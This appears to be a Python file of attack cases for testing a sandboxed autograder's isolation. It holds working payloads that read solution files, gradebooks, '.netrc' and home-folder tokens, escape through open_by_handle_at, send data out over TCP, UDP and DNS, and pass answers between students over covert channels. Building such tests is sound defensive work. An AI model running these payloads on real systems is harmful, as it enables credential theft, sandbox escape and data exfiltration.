"""Stealing from files, and by way of friends and the world outside."""

from __future__ import annotations

from attacks.arena import RIGHTS
from attacks.attack import FIRST, Bite, Chapter

STEALING = Chapter("stealing")

FILES = (
    STEALING.answer(
        "imports the solution from the course folder",
        "the reference solution",
        """
        import importlib.util

        def softmax(x):
            spec = importlib.util.spec_from_file_location("answers", f"{COURSE}/solutions/{ASSIGNMENT}.py")
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            return module.softmax(x)
        """,
    ),
    STEALING.hunt(
        "reads everything in the course and home folders",
        "suites, solutions, mistakes, submissions, gradebook, tokens",
        """
        import os
        for root in (COURSE, HOME_FOLDER, os.path.expanduser("~"), "..", "../.."):
            for folder, _, names in os.walk(root):
                for name in names:
                    if not name.startswith("test_visible"):
                        with open(os.path.join(folder, name), "rb") as file:
                            data = file.read()
                            at = [i for i in range(len(data)) if data[i : i + 10] == b"LONG_LIVED"]
                            print(name, data[-3000:], [data[i : i + 60] for i in at])
            print(root, os.path.exists(root))
        """,
    ),
    STEALING.hunt(
        "reads through symbolic and hard links of its own",
        "solutions and gradebook",
        """
        import os
        for target in (f"{COURSE}/solutions/{ASSIGNMENT}.py", f"{COURSE}/gradebook.db", f"{HOME_FOLDER}/.netrc"):
            for link in (os.symlink, os.link):
                try:
                    link(target, "mine")
                    print(open("mine", "rb").read())
                except OSError as error:
                    print(error)
                if os.path.lexists("mine"):
                    os.remove("mine")
        """,
    ),
    STEALING.hunt(
        "unmarshals the byte code of the solution",
        "the reference solution",
        """
        import glob, marshal
        for path in glob.glob(f"{COURSE}/**/__pycache__/*.pyc", recursive=True):
            print(marshal.loads(open(path, "rb").read()[16:]).co_consts)
        """,
    ),
    STEALING.hunt(
        "reads files by shell, magics and other programs",
        "solutions and gradebook",
        """
        import subprocess, sys
        !cat {COURSE}/solutions/{ASSIGNMENT}.py
        get_ipython().run_line_magic("load", f"{COURSE}/solutions/{ASSIGNMENT}.py")
        get_ipython().run_cell_magic("bash", "", f"strings {COURSE}/gradebook.db; cat {COURSE}/gradebook.db")
        print(subprocess.getoutput(f"{sys.executable} -c 'print(open(\\"{COURSE}/solutions/{ASSIGNMENT}.py\\").read())'"))
        """,
    ),
    STEALING.hunt(
        "opens files by their handles",
        "solutions",
        r"""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        class Handle(ctypes.Structure):
            _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]
        handle, mount = Handle(128), ctypes.c_int()
        folder = f"{COURSE}/solutions"
        if libc.name_to_handle_at(-100, folder.encode(), ctypes.byref(handle), ctypes.byref(mount), 0) < 0:
            print(os.strerror(ctypes.get_errno()))
            handle = Handle(8, 1, (2,))  # the root of most file systems, which needs no asking
        for place in (".", "/", COURSE, "/usr", "/tmp", "/dev/shm"):
            try:
                start = os.open(place, os.O_RDONLY)
                number = libc.open_by_handle_at(start, ctypes.byref(handle), os.O_RDONLY | os.O_DIRECTORY)
                print(place, number, os.strerror(ctypes.get_errno()))
                for path in (f"{ASSIGNMENT}.py", f"{COURSE}/solutions/{ASSIGNMENT}.py".lstrip("/")):
                    print(open(os.open(path, os.O_RDONLY, dir_fd=number)).read())
            except OSError as error:
                print(error)
        """,
        needs=RIGHTS,
    ),
)

OUTSIDE = (
    STEALING.hunt(
        "sends a message by TCP",
        "a packet",
        "import socket\nsocket.create_connection(('127.0.0.1', TCP), 1).sendall(ME.encode())",
        bites=Bite.PACKET,
    ),
    STEALING.hunt(
        "sends a message by UDP",
        "a packet",
        "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(ME.encode(), ('127.0.0.1', UDP))",
        bites=Bite.PACKET,
    ),
    STEALING.hunt(
        "asks a name server for a name that is a message",
        "a packet",
        """
        import ctypes, os, socket
        os.environ["RES_OPTIONS"] = "timeout:1 attempts:1"
        try:
            print(ctypes.CDLL(None).getaddrinfo((ME[:40] + ".example.org").encode(), None, None, ctypes.byref(ctypes.c_void_p())))
        except Exception as error:
            print(error)
        question = b"\\1\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + bytes([len(ME)]) + ME.encode() + b"\\0\\0\\1\\0\\1"
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, ("127.0.0.1", DNS))
        """,
        bites=Bite.PACKET,
    ),
    STEALING.hunt(
        "sends a message by an abstract socket",
        "a packet",
        "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect(ABSTRACT)\ns.sendall(ME.encode())",
        bites=Bite.PACKET,
    ),
    STEALING.hunt(
        "leaves a message in shared folders, a pipe and a socket's file",
        "a message to someone outside",
        """
        import os, socket
        for way in (
            lambda: open(f"{DROP}/{ME}", "w").write(ME),
            lambda: open(f"{SHM}/{ME}", "w").write(ME),
            lambda: open(f"/dev/shm/{ME}", "w").write(ME),
            lambda: os.write(os.open(f"{DROP}/fifo", os.O_WRONLY | os.O_NONBLOCK), ME.encode()),
            lambda: socket.socket(socket.AF_UNIX).connect(f"{DROP}/socket"),
        ):
            try:
                way()
            except OSError as error:
                print(error)
        """,
        bites=Bite.PACKET,
    ),
    STEALING.answer(
        "asks an oracle outside for the answer",
        "answers of somebody else",
        """
        import json, socket

        def softmax(x):
            with socket.create_connection(("127.0.0.1", ORACLE), 1) as channel:
                line = channel.makefile("rw")
                line.write(json.dumps({"rows": x.reshape(-1, x.shape[-1]).tolist()}) + "\\n")
                line.flush()
                return torch.tensor(json.loads(line.readline())).reshape(x.shape)
        """,
    ),
)

_LISTEN = """
import socket, time
listener = socket.socket(socket.AF_UNIX)
listener.bind(f"\\0friends-{KEY}")
listener.listen()
listener.settimeout(2)
listener.accept()[0].sendall(ANSWER.encode())
"""
_CALL = """
import socket, time
for _ in range(100):
    caller = socket.socket(socket.AF_UNIX)
    try:
        caller.connect(f"\\0friends-{KEY}")
        print(caller.recv(100))
        break
    except OSError as error:
        time.sleep(0.02)
"""

FRIENDS = (
    STEALING.attack(
        "gets a friend's answer by an abstract socket",
        cells={FIRST: _CALL},
        friend={FIRST: _LISTEN},
        must_not="another student's answer",
        bites=Bite.LEAK,
    ),
    STEALING.attack(
        "finds what a friend left in folders that all can write",
        cells={
            FIRST: """
            import glob
            for path in glob.glob("/tmp/left*") + glob.glob("/dev/shm/*left*") + glob.glob("/jail/*/left*"):
                print(open(path).read())
            """
        },
        friend={
            FIRST: """
            for folder in ("/tmp", "/dev/shm", "/jail/tmp", "/jail/home", DROP, SHM, "/var/tmp", "/run"):
                try:
                    open(f"{folder}/left-{KEY}", "w").write(ANSWER)
                except OSError as error:
                    print(error)
            """
        },
        friend_first=True,
        must_not="another student's answer",
        bites=Bite.LEAK,
    ),
    STEALING.attack(
        "gets a friend's answer by System V's shared memory and messages",
        cells={
            FIRST: """
            import ctypes, time
            libc = ctypes.CDLL(None, use_errno=True)
            libc.shmat.restype = ctypes.c_void_p
            for _ in range(100):
                number = libc.shmget(KEY, 100, 0)
                there = ctypes.string_at(libc.shmat(number, None, 0), 100) if number >= 0 else b""
                if any(there):  # a segment is made before it is written to
                    print(there)
                    break
                time.sleep(0.02)
            """
        },
        friend={
            FIRST: """
            import ctypes, time
            libc = ctypes.CDLL(None, use_errno=True)
            libc.shmat.restype = ctypes.c_void_p
            number = libc.shmget(KEY, 100, 0o1666)
            print(number)
            place = libc.shmat(number, None, 0)
            if number >= 0:
                ctypes.memmove(place, ANSWER.encode(), len(ANSWER))
            time.sleep(1)
            """
        },
        must_not="another student's answer",
        bites=Bite.LEAK,
    ),
)

ATTACKS = (*FILES, *OUTSIDE, *FRIENDS)
